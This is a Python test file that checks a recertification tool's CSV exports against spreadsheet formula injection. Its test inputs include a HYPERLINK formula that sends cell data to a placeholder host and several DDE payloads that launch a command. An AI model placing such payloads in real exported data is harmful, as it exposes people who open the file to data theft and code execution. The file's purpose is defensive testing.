"""Issue 20 without a browser: every CSV the project writes is safe to open in a spreadsheet, and every
link on every page of the built site goes where a link from data may go.

The browser half (the service worker's policy and checked caches, a page served with no headers, the
checker that cannot be stuck) is in tests/test_never_stuck.py and tests/test_offline.py.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from conftest import ROOT, transcript
from hypothesis import given
from hypothesis import strategies as st

from recert_core import browser, check
from recert_core.check import resolve
from recert_core.roster import PersonResult, check_people, summary_csv_header, summary_csv_line
from recert_core.spreadsheet import FORMULA_START, inert
from recert_core.transcript import read_people

# What a spreadsheet runs when the file is opened: each of these must come back as text.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
    "-",
    "- CPR refresher, part 2",
]


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def runs_in_a_spreadsheet(cell: str) -> bool:
    """What spreadsheets take as a formula: a formula start that is not a plain number."""
    return cell[:1] in FORMULA_START and inert(cell) != cell


@given(st.text(max_size=30))
def test_a_cell_is_text_unless_it_could_not_run(cell):
    written = inert(cell)
    if cell[:1] in FORMULA_START and not re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)", cell):
        assert written == "'" + cell
    else:
        assert written == cell


@pytest.mark.parametrize("number", ["-1.5", "+2", "-0.25", "12", ".5"])
def test_a_plain_number_is_left_as_it_is(number):
    assert inert(number) == number


def test_the_reports_csv_writes_every_formula_as_text():
    rows = [f'2017-01-{i + 10},"{f.replace(chr(34), chr(34) * 2)}",1,T2-{i},national,' for i, f in enumerate(FORMULAS)]
    report = check(transcript(*rows, header='date,"=title",hours,approval,component,delivery'), "emt", 2018)
    written = cells_of(report.to_csv())
    assert written[0][1] == "'=title"
    titles = [row[1] for row in written[1:]]
    assert titles == ["'" + f for f in FORMULAS]
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_a_rosters_summary_writes_a_persons_name_as_text():
    header = "Name,Completion Date,Course Title,Hours,Approval Number,Component"
    lines = [header] + [f'"{name}",05/01/2025,Airway,1,MA-T2-2025-1,National' for name in ["=1+1", "-Smith", "Ada"]]
    level, rule_set = resolve("emt", 2026)
    people = read_people(io.BytesIO(("\r\n".join(lines) + "\r\n").encode()))
    results = [PersonResult.of(person, report) for person, report in check_people(people, level, rule_set)]
    written = cells_of(summary_csv_header() + "".join(summary_csv_line(r) for r in results))
    assert sorted(row[0] for row in written[1:]) == ["'-Smith", "'=1+1", "Ada"]
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_the_editors_download_writes_every_formula_as_text_and_the_check_sees_the_cells_as_typed():
    course = {"date": "2017-01-10", "hours": "1", "approval": "T2-1", "component": "National"}
    rows = [{**course, "title": f} for f in FORMULAS]
    rows.append({"date": "2017-01-11", "title": "Negative", "hours": "-1.5", "approval": "T2-2"})
    answer = json.loads(browser.run_editor(json.dumps(rows), "emt", "2018", "2018-01-01"))
    assert answer["ok"]
    # The check reads the cells as typed (whitespace folded, as the editor writes them).
    typed = [" ".join(f.split()) for f in FORMULAS]
    assert [row["title"] for row in answer["report"]["rows"]][: len(FORMULAS)] == typed
    written = cells_of(browser.editor_csv().decode())
    assert [row[1] for row in written[1 : len(FORMULAS) + 1]] == ["'" + t for t in typed]
    assert written[-1][2] == "-1.5"  # a number stays a number
    assert not [cell for row in written for cell in row if runs_in_a_spreadsheet(cell)]


def test_every_csv_the_package_writes_goes_through_the_one_rule():
    """A new CSV download must use recert_core.spreadsheet: no other module builds a csv.writer, except
    the editor's rows as handed to the check (never to the user)."""
    writers = {}
    for path in (ROOT / "recert_core").rglob("*.py"):
        found = len(re.findall(r"csv\.writer\(", path.read_text()))
        if found:
            writers[path.relative_to(ROOT).as_posix()] = found
    assert writers == {"recert_core/spreadsheet.py": 1, "recert_core/browser.py": 1}
    assert "CsvWriter(out) if inert else csv.writer(" in (ROOT / "recert_core/browser.py").read_text()
